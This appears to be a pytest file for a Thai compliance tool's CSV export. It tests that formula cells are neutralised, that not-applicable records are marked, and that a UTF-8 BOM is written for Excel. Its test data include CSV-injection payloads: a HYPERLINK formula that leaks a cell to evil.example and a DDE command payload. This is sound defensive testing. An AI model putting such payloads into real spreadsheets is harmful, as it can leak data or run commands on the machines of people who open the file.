"""The CSV export opened in a spreadsheet: a cell typed by an officer (or read from a file) never
runs as a formula, a not-applicable record is told apart from a done one, Thai shows correctly in
Excel, and the message says which year was exported."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest

from itacheck.record_export import spreadsheet_safe
from itacheck.store.repository import Repository
from reliability_support import YEAR, run_cli

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1,2)", "=1+1"]


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "=", "@"])
def test_every_formula_trigger_is_neutralised(cell: str):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "ไทย", "1-2", "a=b", "https://example.go.th/x", "'quoted", " =x"])
def test_ordinary_cells_are_left_alone(cell: str):
    assert spreadsheet_safe(cell) == cell


def test_a_formula_in_a_note_is_exported_as_text(data_dir: Path, tmp_path: Path):
    """Repro: `tick … --note '=HYPERLINK("http://evil","x")'` then `export --format csv`: the note
    cell began with "=", so a spreadsheet ran it as a live formula."""
    for n, note in enumerate(FORMULAS):
        done = run_cli("tick", "e6-r1", "--occurrence", "2566-Q2", "--date", f"2023-02-0{n + 1}",
                       f"--note={note}", data=data_dir)
        assert done.returncode == 0, done.stderr
    out = tmp_path / "r.csv"
    done = run_cli("export", "--format", "csv", "-o", str(out), data=data_dir)
    assert done.returncode == 0, done.stderr
    rows = _rows(out)
    notes = [r["note"] for r in rows if r["occurrence"] == "2566-Q2" and r["task"] == "e6-r1"]
    assert sorted(notes) == sorted("'" + f for f in FORMULAS)
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r", row


def test_attachment_names_and_user_names_are_neutralised_too(repo: Repository, data_dir: Path, tmp_path: Path):
    evidence = tmp_path / "=cmd.pdf"
    evidence.write_bytes(b"evidence")
    Repository(data_dir, user="=evil (@officer)").add_record(YEAR, "e6-r1", "2566-Q2", date(2023, 2, 1),
                                                                files=[evidence], links=["https://x.go.th/="])
    out = tmp_path / "r.csv"
    assert run_cli("export", "--format", "csv", "-o", str(out), data=data_dir).returncode == 0
    row = next(r for r in _rows(out) if r["occurrence"] == "2566-Q2")
    assert row["attachments"] == "'=cmd.pdf" and row["recorded_by"] == "'=evil (@officer)"
    assert row["links"] == "https://x.go.th/="


def test_a_not_applicable_record_is_told_apart_from_a_done_one(repo: Repository, data_dir: Path, tmp_path: Path):
    """Repro: a record marked not applicable (with its reason) was exported exactly like a done one."""
    repo.add_record(YEAR, "e6-r1", "2566-Q2", date(2023, 2, 1), note="ไม่มีการจัดซื้อในไตรมาสนี้", skipped=True)
    repo.add_record(YEAR, "e6-r1", "2566-Q3", date(2023, 5, 1), note="รายงานแล้ว")
    out = tmp_path / "r.csv"
    assert run_cli("export", "--format", "csv", "-o", str(out), data=data_dir).returncode == 0
    rows = {r["occurrence"]: r for r in _rows(out) if r["task"] == "e6-r1"}
    skipped, done = rows["2566-Q2"], rows["2566-Q3"]
    assert (skipped["not_applicable"], skipped["reason"], skipped["note"]) == ("yes", "ไม่มีการจัดซื้อในไตรมาสนี้", "")
    assert (done["not_applicable"], done["reason"], done["note"]) == ("no", "", "รายงานแล้ว")


def test_the_csv_opens_as_utf8_in_excel_and_the_message_names_the_year(data_dir: Path, tmp_path: Path):
    """Repro: without a byte-order mark Excel reads the file as the local code page and Thai turns
    into mojibake; the success message named only the file."""
    out = tmp_path / "r.csv"
    done = run_cli("export", "--format", "csv", "-o", str(out), data=data_dir)
    assert done.returncode == 0, done.stderr
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and not raw[3:].startswith(b"\xef\xbb\xbf")
    assert "ไทย".encode() not in raw[:3] and len(_rows(out)) == 21
    assert str(YEAR) in done.stdout and str(out) in done.stdout
    done = run_cli("export", "--format", "json", "-o", str(tmp_path / "r.json"), data=data_dir)
    assert str(YEAR) in done.stdout and not (tmp_path / "r.json").read_bytes().startswith(b"\xef")
